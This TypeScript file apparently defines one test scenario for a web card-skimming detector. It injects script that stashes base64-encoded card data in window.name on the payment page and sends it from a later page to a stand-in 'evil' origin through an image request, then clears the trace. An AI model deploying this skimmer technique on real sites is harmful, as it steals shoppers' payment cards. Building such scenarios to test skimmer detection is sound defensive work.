import { holds, js, skimmer } from '../behaviour.ts';
import { base64, query } from '../site/arrivals.ts';
import { onPay } from '../snippets.ts';

export default skimmer({
  id: 'window-name',
  why: "The window's name lives through navigation and stands in no storage: the next page reads it and sends.",
  covers: ['hard: stash', 'disguise: removes traces'],
  base: 'direct',
  install: (site) => {
    site.append(onPay(js`window.name = btoa(card());`));
    site.everywhere(
      js`if (window.name.length > 30 && !/payment/.test(location.pathname)) { new Image().src = '${site.origins.evil}/wn.gif?d=' + encodeURIComponent(window.name); window.name = ''; }`,
    );
  },
  proof: holds((arrived) => query(arrived, 'd').map(base64)),
});
